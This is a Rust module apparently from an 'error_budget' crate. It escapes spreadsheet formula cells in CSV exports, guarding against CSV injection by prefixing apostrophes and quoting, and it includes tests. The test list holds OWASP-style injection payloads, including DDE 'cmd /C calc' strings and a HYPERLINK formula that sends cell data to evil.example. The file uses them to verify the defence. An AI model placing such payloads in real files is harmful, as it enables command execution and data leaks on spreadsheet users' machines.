//! Cells that a spreadsheet opens without running them: the one place that knows what a formula looks like.
//!
//! A spreadsheet evaluates a cell that begins with `=`, `+`, `-` or `@`, and a title is what anybody typed. [`text`] puts
//! an apostrophe before such a text, the spreadsheets' own mark of a text, as OWASP's page on CSV injection asks;
//! [`original`] takes exactly these apostrophes away again, so that the import reads what the export was given. [`field`]
//! is the cell as it stands in CSV.

use std::borrow::Cow;

/// What begins a formula; the wide forms are taken for the narrow ones where Chinese, Japanese or Korean is typed.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// Where a reader that expects another separator than ours begins a cell.
const SEPARATORS: [char; 4] = [';', '\t', '\r', '\n'];

/// A text that stays one: with an apostrophe before whatever would be taken for a formula.
///
/// # Example
/// ```
/// use error_budget::exchange::spreadsheet::{original, text};
/// assert_eq!(text("=1+1"), "'=1+1");
/// assert_eq!(text("Database down - again"), "Database down - again");
/// // In half of Europe a semicolon begins the next cell.
/// assert_eq!(text("down;=1+1"), "down;'=1+1");
/// assert_eq!(original(&text("'=1+1")), "'=1+1");
/// ```
#[must_use]
pub fn text(cell: &str) -> Cow<'_, str> {
    if !pieces(cell).any(|(_, piece)| is_formula(piece)) && !begins_apart(cell) {
        return Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len() + 4);
    for (at, piece) in pieces(cell) {
        if is_formula(piece) || (at == 0 && begins_apart(cell)) {
            out.push('\'');
        }
        out.push_str(piece);
    }
    Cow::Owned(out)
}

/// The same for a cell of which it is not known what it holds: a number stays a number.
///
/// # Example
/// ```
/// use error_budget::exchange::spreadsheet::value;
/// assert_eq!(value("-3.5"), "-3.5");
/// assert_eq!(value("-3.5+cmd"), "'-3.5+cmd");
/// ```
#[must_use]
pub fn value(cell: &str) -> Cow<'_, str> {
    if is_number(cell) {
        Cow::Borrowed(cell)
    } else {
        text(cell)
    }
}

/// What [`text`] or [`value`] was given.
#[must_use]
pub fn original(cell: &str) -> Cow<'_, str> {
    // Nearly every cell: nothing to take away.
    if !cell.contains('\'') {
        return Cow::Borrowed(cell);
    }
    let marked = |at: usize, piece: &str| {
        piece.starts_with('\'') && (is_formula(piece) || (at == 0 && begins_apart(cell)))
    };
    if !pieces(cell).any(|(at, piece)| marked(at, piece)) {
        return Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len());
    for (at, piece) in pieces(cell) {
        let bare = piece.strip_prefix('\'').filter(|_| marked(at, piece));
        out.push_str(bare.unwrap_or(piece));
    }
    Cow::Owned(out)
}

/// A cell as it stands in CSV (RFC 4180): in quotes where it holds a separator of any dialect, a quote or a line's end.
///
/// # Example
/// ```
/// use error_budget::exchange::spreadsheet::{field, text};
/// assert_eq!(field(&text("=HYPERLINK(\"x\")")), "\"'=HYPERLINK(\"\"x\"\")\"");
/// ```
#[must_use]
pub fn field(cell: &str) -> Cow<'_, str> {
    if cell.contains(['"', ',']) || cell.contains(SEPARATORS) {
        Cow::Owned(format!("\"{}\"", cell.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The parts of a cell of which each may be a cell elsewhere, with where they begin; separators stand at the ends.
fn pieces(cell: &str) -> impl Iterator<Item = (usize, &str)> {
    let mut at = 0;
    cell.split_inclusive(SEPARATORS).map(move |piece| {
        let from = at;
        at += piece.len();
        (from, piece)
    })
}

/// Whether it is a formula once apostrophes before it are taken away: those that were there count as text, not as marks.
fn is_formula(piece: &str) -> bool {
    // Blanks, and quotes that the reader of another dialect takes for its own, hide what follows from nobody.
    let hides = |c: char| {
        c == '"' || c.is_whitespace() || c.is_control() || matches!(c, '\u{feff}' | '\u{200b}')
    };
    let bare = piece.trim_start_matches('\'').trim_start_matches(hides);
    bare.starts_with(FORMULA)
}

/// Whether it begins with what careless readers take for the end of the cell before.
fn begins_apart(cell: &str) -> bool {
    let bare = cell.trim_start_matches('\'');
    bare.starts_with(['\t', '\r', '\n'])
}

/// Read by its letters: what parses floats brings 10 KB of tables into the page.
fn is_number(cell: &str) -> bool {
    let unsigned = |text| str::strip_prefix(text, ['+', '-']).unwrap_or(text);
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let number = unsigned(cell);
    let (number, exponent) = number
        .split_once(['e', 'E'])
        .map_or((number, None), |(number, exponent)| {
            (number, Some(exponent))
        });
    let (whole, part) = number
        .split_once('.')
        .map_or((number, None), |(whole, part)| (whole, Some(part)));
    (digits(whole) || whole.is_empty() && part.is_some())
        && part.is_none_or(digits)
        && exponent.is_none_or(|exponent| digits(unsigned(exponent)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn the_payloads_that_owasp_names_are_texts() {
        // https://owasp.org/www-community/attacks/CSV_Injection: the characters and the examples, and what the
        // Web Security Testing Guide adds.
        let payloads = [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1+1)",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "=cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1&B1,\"Error: please click me\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "  =1+1",
            "\u{a0}=1+1",
            "\u{feff}=1+1",
        ];
        for payload in payloads {
            let written = text(payload);
            assert!(written.starts_with('\''), "{payload:?}: {written:?}");
            assert_eq!(value(payload), written, "{payload:?}");
            assert_eq!(original(&written), payload);
        }
    }

    #[test]
    fn a_cell_that_begins_at_a_semicolon_is_a_text_too() {
        // Read with semicolons, our quotes do not stand at a cell's start and hold nothing together.
        let cases = [
            ("x;=1+1", "x;'=1+1"),
            ("x; \"=1+1&\"", "x;' \"=1+1&\""),
            ("x\n@y", "x\n'@y"),
            ("x;'=y", "x;''=y"),
        ];
        for (given, written) in cases {
            assert_eq!(text(given), written);
            assert_eq!(original(written), given);
        }
    }

    #[test]
    fn what_is_no_formula_is_left_alone() {
        for plain in [
            "",
            "checkout",
            "a=b",
            "1-2",
            "5% - or so",
            "'quoted'",
            "it's",
            "' ",
            "x; y",
        ] {
            assert_eq!(text(plain), plain);
            assert_eq!(original(plain), plain);
        }
        for number in ["-3.5", "+1", "-0.25", "1e9", "-1e-9", "12"] {
            assert_eq!(value(number), number);
        }
        for none in ["-inf", "+NaN", "-", "-3.5%+1", "--1", "-1 "] {
            assert_eq!(value(none), format!("'{none}"));
        }
    }

    proptest! {
        #[test]
        fn every_text_comes_back_as_it_was(given in "([=+@＝'\"; \t\r\n,-]|a|1){0,12}") {
            let (as_text, as_value) = (text(&given), value(&given));
            prop_assert_eq!(original(&as_text), given.as_str());
            prop_assert_eq!(original(&as_value), given.as_str());
        }

        #[test]
        fn no_cell_begins_a_formula_in_any_dialect(
            given in "([=+@＝'\"; \t\r\n,-]|a|1){0,12}", separator in prop::sample::select(b",;\t".to_vec())
        ) {
            let line = format!("x,{},y\n", field(&text(&given)));
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .has_headers(false)
                .flexible(true)
                .from_reader(line.as_bytes());
            for record in reader.records() {
                for cell in &record.expect("text") {
                    let begins = cell.trim_start().chars().next();
                    prop_assert!(!begins.is_some_and(|first| FORMULA.contains(&first)), "{:?}", cell);
                }
            }
        }
    }
}
